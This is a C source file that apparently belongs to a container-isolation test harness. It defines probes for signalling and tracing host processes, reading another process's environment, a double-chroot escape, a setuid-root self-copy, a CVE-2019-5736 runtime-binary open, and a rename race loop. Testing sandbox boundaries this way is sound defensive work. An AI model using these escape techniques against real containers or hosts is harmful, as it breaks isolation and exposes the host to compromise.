/* Other processes, what they left open, and the way a process got where it is. */
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* Argument: a pid of the host. */
static int try_signal(const char *argument) { return outcome(kill(atoi(argument), 0)); }

static int try_trace(const char *argument) {
	pid_t pid = atoi(argument);
	int failed = outcome(ptrace(PTRACE_SEIZE, pid, 0, 0));
	if (!failed)
		(void)ptrace(PTRACE_DETACH, pid, 0, 0);
	return failed;
}

static int try_environment(const char *argument) {
	char path[64], byte;
	(void)snprintf(path, sizeof path, "/proc/%d/environ", atoi(argument));
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	return fd < 0 ? errno : read(fd, &byte, 1) < 0 ? errno : 0;
}

/* Anything above 2 that this process did not open itself. */
static int try_open_files(const char *argument) {
	(void)argument;
	DIR *folder = opendir("/proc/self/fd");
	if (!folder)
		return errno;
	for (struct dirent *entry; (entry = readdir(folder));)
		if (entry->d_name[0] != '.' && atoi(entry->d_name) > 2 && atoi(entry->d_name) != dirfd(folder))
			return 0;
	return ENOENT;
}

/* Out of a root that was changed by chroot alone: a folder that is not below the new root is kept open, and has parents. */
static int try_chroot(const char *argument) {
	(void)argument;
	struct stat before, after;
	if (stat("/", &before) < 0 || (mkdir("/escape-root", 0700) < 0 && errno != EEXIST) || chroot("/escape-root") < 0)
		return errno;
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	if (chroot(".") < 0 || stat("/", &after) < 0)
		return errno;
	return before.st_dev == after.st_dev && before.st_ino == after.st_ino ? ENOENT : 0;
}

/* "DIRECTORY": what try_chroot does, from a plain chroot: its control. */
static int try_chroot_in(const char *argument) { return chroot(argument) < 0 || chdir("/") < 0 ? errno : try_chroot(""); }

/* A program of root's with the setuid bit, run by somebody else. */
static int try_setuid_program(const char *argument) {
	(void)argument;
	static const char path[] = "/tmp/escape-setuid";
	char self[4096];
	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
	for (ssize_t length; in >= 0 && out >= 0 && (length = read(in, self, sizeof self)) > 0;)
		if (write(out, self, (size_t)length) != length)
			return EIO;
	if (in < 0 || out < 0 || fchmod(out, 04755) < 0 || close(out) < 0)
		return errno;
	int status;
	pid_t pid = fork();
	if (pid == 0) {
		if (setgid(1000) < 0 || setuid(1000) < 0)
			_exit(errno);
		(void)execl(path, path, "is-root", NULL);
		_exit(errno);
	}
	(void)waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : EIO;
}

/* Whose program is neither this one nor "ARGUMENT" (the container's own shell): an open file that stands for it, or -1. */
static int find_foreign_program(const char *known) {
	DIR *processes = opendir("/proc");
	int found = -1;
	for (struct dirent *entry; processes && found < 0 && (entry = readdir(processes));) {
		char path[300], target[300];
		(void)snprintf(path, sizeof path, "/proc/%.250s/exe", entry->d_name);
		ssize_t length = atoi(entry->d_name) > 0 ? readlink(path, target, sizeof target - 1) : -1;
		if (length < 0)
			continue;
		target[length] = '\0';
		if (strcmp(target, "/attack") != 0 && strcmp(target, known) != 0)
			found = open(path, O_PATH | O_CLOEXEC);
	}
	if (processes)
		(void)closedir(processes);
	return found;
}

/*
 * The runtime's own program, caught while it runs in this container because somebody asked it to execute /proc/self/exe (CVE-2019-5736): opened for
 * writing as soon as nobody executes it any more. Opening it is the whole attack, nothing is written.
 */
static int try_runtime_program(const char *argument) {
	char path[64];
	int held = -1, failed = ETXTBSY;
	(void)printf("hunting\n");
	(void)fflush(stdout);
	while (held < 0)
		held = find_foreign_program(argument);
	(void)snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	for (int i = 0; i < 3000 && failed == ETXTBSY; i++) {
		failed = outcome(open(path, O_WRONLY | O_CLOEXEC));
		if (failed == ETXTBSY)
			(void)usleep(1000);
	}
	return failed;
}

/* "A,B": exchanges two names for ever; for others to be caught between looking and doing. */
static int exchange(const char *argument) {
	char first[2048];
	const char *comma = strchr(argument, ',');
	if (!comma)
		return EINVAL;
	(void)snprintf(first, sizeof first, "%.*s", (int)(comma - argument), argument);
	(void)alarm(0);
	while (syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, comma + 1, 2) == 0)
		continue;
	return errno;
}

const struct attack process_attacks[] = {
	{"signal", try_signal},
	{"trace", try_trace},
	{"environment", try_environment},
	{"open-files", try_open_files},
	{"chroot", try_chroot},
	{"chroot-in", try_chroot_in},
	{"setuid-program", try_setuid_program},
	{"runtime-program", try_runtime_program},
	{"exchange", exchange},
	{NULL, NULL},
};
